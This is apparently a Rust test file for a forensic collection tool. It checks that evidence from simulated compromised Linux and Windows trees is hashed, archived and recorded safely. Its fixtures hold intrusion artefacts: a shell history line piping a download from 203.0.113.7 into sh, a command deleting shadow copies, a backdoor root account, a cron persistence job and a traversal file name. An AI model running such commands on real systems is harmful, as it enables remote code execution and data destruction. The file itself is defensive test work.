//! `shodo collect` from directory trees: what is taken, how it is hashed and recorded, and what
//! happens with hostile names, special files, unreadable files, kills and a full stick.

use std::collections::BTreeMap;
use std::fs::{self, File};
use std::io::Read;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::helpers::{sha256_hex as sha, shodo, verify};
use serde_json::Value;

fn write(root: &Path, rel: &str, content: &[u8]) -> PathBuf {
    let p = root.join(rel);
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(&p, content).unwrap();
    p
}

/// A small Linux system tree.
fn linux_tree(root: &Path) {
    write(root, "etc/hostname", b"web-01\n");
    write(root, "etc/os-release", b"PRETTY_NAME=\"Debian GNU/Linux 12\"\n");
    write(root, "etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nbackdoor:x:0:0::/tmp:/bin/sh\n");
    write(root, "etc/shadow", b"root:*:19000:0:99999:7:::\n");
    write(root, "var/log/auth.log", b"Accepted password for root from 203.0.113.7\n");
    write(root, "root/.bash_history", b"vssadmin delete shadows /all /quiet\ncurl http://203.0.113.7/x | sh\n");
    write(root, "root/.ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n");
    write(root, "etc/cron.d/persist", b"* * * * * root /tmp/.x/run.sh\n");
    write(root, "tmp/.x/run.sh", b"#!/bin/sh\nwhile true; do :; done\n");
    write(root, "home/alice/notes.txt", b"not an artefact\n");
}

fn new_case(tmp: &Path) -> PathBuf {
    let case = tmp.join("case");
    shodo().current_dir(tmp).args(["case", "init", "--case"]).arg(&case).assert().success();
    case
}

fn collect(case: &Path, source: &Path, extra: &[&str]) -> (i32, Value) {
    let out = shodo()
        .args(["collect", "--json", "--case"])
        .arg(case)
        .arg("--source")
        .arg(source)
        .args(extra)
        .output()
        .unwrap();
    let code = out.status.code().unwrap();
    let json = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
    assert!(code != 2 || json.is_null(), "{}", String::from_utf8_lossy(&out.stderr));
    (code, json)
}

fn manifest(case: &Path, endpoint: &str) -> Vec<Value> {
    let text = fs::read_to_string(case.join("endpoints").join(endpoint).join("manifest.jsonl")).unwrap();
    text.lines().map(|l| serde_json::from_str(l).unwrap()).collect()
}

/// Latest row per path.
fn latest(rows: &[Value]) -> BTreeMap<String, Value> {
    rows.iter().map(|r| (r["path"].as_str().unwrap().to_string(), r.clone())).collect()
}

/// Reads an entry back out of its segment archive.
fn entry_bytes(case: &Path, endpoint: &str, row: &Value) -> Vec<u8> {
    let zip = case.join("endpoints").join(endpoint).join(row["zip"].as_str().unwrap());
    let mut archive = zip::ZipArchive::new(File::open(zip).unwrap()).unwrap();
    let mut entry = archive.by_name(row["entry"].as_str().unwrap()).unwrap();
    let mut out = Vec::new();
    entry.read_to_end(&mut out).unwrap();
    out
}

/// Every file under `root` with its content and mtime, to prove the source is untouched.
fn snapshot(root: &Path) -> BTreeMap<PathBuf, (Vec<u8>, i64)> {
    use std::os::unix::fs::MetadataExt;
    walkdir::WalkDir::new(root)
        .into_iter()
        .flatten()
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            let m = e.metadata().unwrap();
            (e.path().to_path_buf(), (fs::read(e.path()).unwrap(), m.mtime()))
        })
        .collect()
}

#[test]
fn linux_tree_is_collected_hashed_and_recorded() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    linux_tree(&src);
    let before = snapshot(&src);
    let case = new_case(tmp.path());
    let (code, summary) = collect(&case, &src, &[]);
    assert_eq!(code, 0, "{summary}");
    assert_eq!(summary["endpoint"], "web-01");
    let rows = latest(&manifest(&case, "web-01"));
    for rel in [
        "etc/passwd",
        "etc/shadow",
        "var/log/auth.log",
        "root/.bash_history",
        "root/.ssh/authorized_keys",
        "etc/cron.d/persist",
        "tmp/.x/run.sh",
    ] {
        let row = rows.get(rel).unwrap_or_else(|| panic!("{rel} not collected: {rows:?}"));
        let content = fs::read(src.join(rel)).unwrap();
        assert_eq!(row["status"], "collected");
        assert_eq!(row["sha256"], sha(&content), "{rel}");
        assert_eq!(entry_bytes(&case, "web-01", row), content, "{rel}");
    }
    assert!(!rows.contains_key("home/alice/notes.txt"), "only catalogue artefacts are taken");
    let endpoint: Value =
        serde_json::from_slice(&fs::read(case.join("endpoints/web-01/endpoint.json")).unwrap()).unwrap();
    assert_eq!(endpoint["hostname"], "web-01");
    assert_eq!(endpoint["os_release"], "Debian GNU/Linux 12");
    assert_eq!(before, snapshot(&src), "the source changed");
    let (vcode, report) = verify(&case);
    assert_eq!(vcode, 0, "{report}");
    // The manifest root in the custody log is the root of the manifest as stored.
    let custody = fs::read_to_string(case.join("custody.jsonl")).unwrap();
    let finish: Value = serde_json::from_str(custody.lines().last().unwrap()).unwrap();
    assert_eq!(finish["action"], "collect.finish");
    assert_eq!(finish["detail"]["manifest_root"], summary["manifest_root"]);
}

#[test]
fn windows_names_match_whatever_their_case() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("c");
    write(&src, "WINDOWS/system32/WINEVT/logs/Security.evtx", b"ElfFile\0security");
    write(&src, "Windows/System32/config/SYSTEM", b"regf system");
    write(&src, "Users/yamada/NTUSER.DAT", b"regf user");
    write(&src, "Users/yamada/Desktop/README_RESTORE.txt", b"Your files have been encrypted");
    write(
        &src,
        "Users/yamada/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt",
        b"vssadmin delete shadows",
    );
    let case = new_case(tmp.path());
    let (code, summary) = collect(&case, &src, &["--endpoint", "pc-01"]);
    assert_eq!(code, 0, "{summary}");
    assert_eq!(summary["os"], "windows");
    let rows = latest(&manifest(&case, "pc-01"));
    for rel in [
        "WINDOWS/system32/WINEVT/logs/Security.evtx",
        "Windows/System32/config/SYSTEM",
        "Users/yamada/NTUSER.DAT",
        "Users/yamada/Desktop/README_RESTORE.txt",
        "Users/yamada/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt",
    ] {
        assert_eq!(rows.get(rel).map(|r| r["status"].clone()), Some("collected".into()), "{rel}: {rows:?}");
    }
}

#[test]
fn windows_source_without_endpoint_asks_for_one() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("c");
    write(&src, "Windows/System32/config/SYSTEM", b"regf");
    let case = new_case(tmp.path());
    let out = shodo().args(["collect", "--case"]).arg(&case).arg("--source").arg(&src).assert().code(2);
    let msg = String::from_utf8(out.get_output().stderr.clone()).unwrap();
    assert!(msg.contains("--endpoint"), "{msg}");
}

#[test]
fn hostile_names_links_and_special_files_are_recorded_not_followed() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    linux_tree(&src);
    let outside = write(tmp.path(), "outside/secret", b"the responder's own file");
    std::os::unix::fs::symlink(&outside, src.join("root/.ssh/id_rsa")).unwrap();
    std::os::unix::fs::symlink("../..", src.join("tmp/loop")).unwrap();
    std::os::unix::fs::symlink("loop2", src.join("tmp/loop1")).unwrap();
    std::os::unix::fs::symlink("loop1", src.join("tmp/loop2")).unwrap();
    let sjis = std::ffi::OsStr::from_bytes(b"tmp/\x8c\x9f\x8d\xb8.sh");
    fs::write(src.join(sjis), b"sjis").unwrap();
    let bad = std::ffi::OsStr::from_bytes(b"tmp/\xff\xfe.bin");
    fs::write(src.join(bad), b"not utf-8").unwrap();
    write(&src, "tmp/..\\..\\Windows\\evil.bat", b"traversal");
    write(&src, "tmp/empty", b"");
    Command::new("mkfifo").arg(src.join("tmp/pipe")).status().unwrap();
    let case = new_case(tmp.path());
    let (code, _) = collect(&case, &src, &[]);
    assert_eq!(code, 0);
    let rows = latest(&manifest(&case, "web-01"));
    let key = rows["root/.ssh/id_rsa"].clone();
    assert_eq!(key["status"], "symlink");
    assert_eq!(key["link_target"], outside.to_str().unwrap());
    assert_eq!(rows["tmp/loop1"]["status"], "symlink");
    let s = &rows["tmp/%8C%9F%8D%B8.sh"];
    assert_eq!((s["status"].as_str(), s["path_sjis"].as_str()), (Some("collected"), Some("tmp/検査.sh")));
    assert_eq!(rows["tmp/%FF%FE.bin"]["sha256"], sha(b"not utf-8"));
    let t = &rows["tmp/..%5C..%5CWindows%5Cevil.bat"];
    assert_eq!(t["entry"], "fs/tmp/..%5C..%5CWindows%5Cevil.bat");
    assert_eq!(rows["tmp/empty"]["sha256"], sha(b""));
    assert_eq!(
        (rows["tmp/pipe"]["status"].as_str(), rows["tmp/pipe"]["reason"].as_str()),
        (Some("skipped"), Some("not_regular"))
    );
    // No archive entry escapes its folder, and nothing outside the source was read.
    let zip = case.join("endpoints/web-01/evidence-0001.zip");
    let archive = zip::ZipArchive::new(File::open(zip).unwrap()).unwrap();
    assert!(archive.file_names().map(|n| n.unwrap()).all(|n| !n.contains('\\') && !n.split('/').any(|c| c == "..")));
    assert!(!rows.values().any(|r| r["sha256"] == sha(b"the responder's own file")));
}

#[test]
fn oversized_sparse_file_is_skipped_without_reading_it() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    linux_tree(&src);
    let big = File::create(src.join("var/log/huge.log")).unwrap();
    big.set_len(3 << 30).unwrap(); // 3 GiB, sparse: over the 1 GiB cap of linux.logs
    let case = new_case(tmp.path());
    let (code, summary) = collect(&case, &src, &[]);
    assert_eq!(code, 0, "a size cap is policy, not a problem: {summary}");
    let rows = latest(&manifest(&case, "web-01"));
    let row = &rows["var/log/huge.log"];
    assert_eq!((row["reason"].as_str(), row["size"].as_u64()), (Some("too_large"), Some(3 << 30)));
    assert_eq!(summary["skipped"]["too_large"], 1);
}

#[test]
fn byte_budget_is_recorded_per_file_and_exit_code_says_incomplete() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    linux_tree(&src);
    let case = new_case(tmp.path());
    let (code, summary) = collect(&case, &src, &["--max-bytes", "40"]);
    assert_eq!(code, 1, "{summary}");
    assert!(summary["skipped"]["total_budget"].as_u64().unwrap() > 0, "{summary}");
    // Without the budget, the resumed run takes what was left and nothing twice.
    let (code, summary) = collect(&case, &src, &[]);
    assert_eq!(code, 0, "{summary}");
    let rows = manifest(&case, "web-01");
    let collected: Vec<&str> =
        rows.iter().filter(|r| r["status"] == "collected").map(|r| r["path"].as_str().unwrap()).collect();
    let mut unique = collected.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(collected.len(), unique.len(), "a file was collected twice: {collected:?}");
    assert_eq!(summary["resumed"], true);
}

#[test]
fn unreadable_file_is_recorded_and_the_run_goes_on() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    linux_tree(&src);
    fs::set_permissions(src.join("etc/shadow"), std::os::unix::fs::PermissionsExt::from_mode(0o000)).unwrap();
    let case = new_case(tmp.path());
    // Run as an unprivileged user, so that the permission holds (root reads anything).
    Command::new("chmod").args(["-R", "a+rwX"]).arg(tmp.path()).status().unwrap();
    fs::set_permissions(src.join("etc/shadow"), std::os::unix::fs::PermissionsExt::from_mode(0o000)).unwrap();
    let out = Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            env!("CARGO_BIN_EXE_shodo"),
            "collect",
            "--json",
            "--case",
        ])
        .arg(&case)
        .arg("--source")
        .arg(&src)
        .output()
        .expect("setpriv (util-linux) runs the collection as nobody");
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    let rows = latest(&manifest(&case, "web-01"));
    assert_eq!(rows["etc/shadow"]["reason"], "unreadable");
    assert_eq!(rows["etc/passwd"]["status"], "collected");
}

#[test]
fn live_snapshot_has_processes_with_exe_hashes_and_socket_owners() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    linux_tree(&src);
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let case = new_case(tmp.path());
    let (code, _) = collect(&case, &src, &["--live"]);
    assert_eq!(code, 0);
    let rows = latest(&manifest(&case, "web-01"));
    let procs: Value = serde_json::from_slice(&entry_bytes(&case, "web-01", &rows["live/processes.json"])).unwrap();
    let me = std::process::id();
    let mine =
        procs["processes"].as_array().unwrap().iter().find(|p| p["pid"] == me).expect("this test's process is listed");
    assert_eq!(mine["exe_sha256"], sha(&fs::read("/proc/self/exe").unwrap()));
    let socks: Value = serde_json::from_slice(&entry_bytes(&case, "web-01", &rows["live/sockets.json"])).unwrap();
    let local = format!("127.0.0.1:{port}");
    let s = socks["sockets"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["local"] == local.as_str())
        .expect("the listening socket");
    assert_eq!(s["state"], "LISTEN");
    assert!(s["pids"].as_array().unwrap().contains(&me.into()), "{s}");
    assert!(rows.contains_key("live/mountinfo.txt") && rows.contains_key("live/modules.txt"));
    let endpoint: Value =
        serde_json::from_slice(&fs::read(case.join("endpoints/web-01/endpoint.json")).unwrap()).unwrap();
    let lo = endpoint["nics"].as_array().unwrap().iter().find(|n| n["name"] == "lo").expect("loopback listed");
    assert!(lo["addresses"].as_array().unwrap().iter().any(|a| a == "127.0.0.1/8"), "{lo}");
    drop(listener);
}

#[test]
fn the_case_is_never_collected_into_itself() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    linux_tree(&src);
    // The case lives inside the source's /tmp, which the catalogue walks.
    let case = src.join("tmp/case");
    shodo().args(["case", "init", "--case"]).arg(&case).assert().success();
    let (code, _) = collect(&case, &src, &[]);
    assert_eq!(code, 0);
    let rows = latest(&manifest(&case, "web-01"));
    assert!(rows.keys().all(|p| !p.starts_with("tmp/case")), "{:?}", rows.keys().collect::<Vec<_>>());
    assert_eq!(rows["tmp/.x/run.sh"]["status"], "collected");
}
